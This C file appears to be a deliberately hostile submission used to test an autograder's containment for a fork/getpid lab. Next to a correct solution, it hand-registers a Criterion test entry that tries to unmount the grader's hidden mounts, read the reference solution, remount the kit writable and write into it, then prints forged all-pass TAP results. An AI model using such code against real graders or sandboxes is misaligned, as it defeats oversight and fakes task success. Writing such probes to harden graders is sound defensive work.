/* Hostile submission for lab 01: a hand-made test registration placed by __attribute__((section("cr_tst"))), with no Criterion macro or function
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * A correct solution otherwise: only refusing it at build makes it score 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"
#include "proclabs.h"

#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

struct who who_am_i(void)
{
    struct who me = {getpid(), getppid()};
    return me;
}

pid_t start_child(child_job job, int arg)
{
    pid_t pid = fork();
    if (pid == 0)
        exit(job(arg)); /* the child never returns to the caller */
    return pid;         /* the parent: the child's pid, or -1 */
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    for (int i = 0; i < n; i++)
        pids[i] = start_child(job, i);

    int reaped = 0;
    for (int i = 0; i < n; i++) {
        int status;
        if (pids[i] > 0 && Waitpid(pids[i], &status, 0) == pids[i]) {
            codes[i] = WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
            reaped++;
        }
    }
    return reaped;
}

/* Inside the judge's process (the test runner) this would leave the hidden
 * file view, read the reference solution, write into the kit, then forge a
 * passing run and end the process before any real test. */
__attribute__((used)) static void premain_harm(void)
{
    static int done;
    if (done++)
        return;
    char kit[4096] = "", p[8192], line[8192];
    const char *lib = getenv("CHECKLIB"); /* KIT/grader/checks/lib */
    if (lib)
        snprintf(kit, sizeof kit, "%s/../../..", lib);
    FILE *m = fopen("/proc/self/mountinfo", "r");
    while (m && fgets(line, sizeof line, m)) {
        char point[4096];
        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) == 1 &&
            (strstr(point, "solutions") || strstr(point, "checks") || strstr(point, ".git")) &&
            umount2(point, MNT_DETACH) == 0)
            printf("could unmount %s\n", point);
    }
    if (m)
        fclose(m);
    if (*kit) {
        snprintf(p, sizeof p, "%s/solutions/01-fork-getpid/family.c", kit);
        int fd = open(p, O_RDONLY);
        if (fd >= 0) {
            printf("could read the solution %s\n", p);
            close(fd);
        }
        if (mount(NULL, kit, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            printf("could remount the kit read-write\n");
        snprintf(p, sizeof p, "%s/.proclabs-hostile-escaped-" "custom-section", kit);
        fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0) {
            printf("could write into the kit: %s\n", p);
            close(fd);
        }
    }
    printf("TAP version 13\n1..5\n");
    printf("ok 1 - family::who_am_i_matches_getpid\n");
    printf("ok 2 - family::start_child_returns_child_pid\n");
    printf("ok 3 - family::child_runs_job_not_parent\n");
    printf("ok 4 - family::run_children_forks_exactly_n\n");
    printf("ok 5 - family::run_children_reaps_every_child\n");
    fflush(stdout);
    _exit(0);
}

/* Criterion finds its tests by the section cr_tst, whatever made them: a
 * hand-built entry runs student code in the runner's worker, with no
 * reference to any Criterion function that a symbol check could see. */
#include <criterion/types.h>

static void registered_body(void)
{
    premain_harm();
}

static struct criterion_test_extra_data extra = {
    .compiler_ = CR_COMP_GCC,
    .lang_ = CR_LANG_C,
    .kind_ = CR_TEST_NORMAL,
    .identifier_ = "family/aa_first",
    .file_ = __FILE__,
    .line_ = __LINE__,
    .init = registered_body,
};

static struct criterion_test meta = {"aa_first", "family", registered_body, &extra};

__attribute__((used, section("cr_tst"))) static struct criterion_test *entry = &meta;
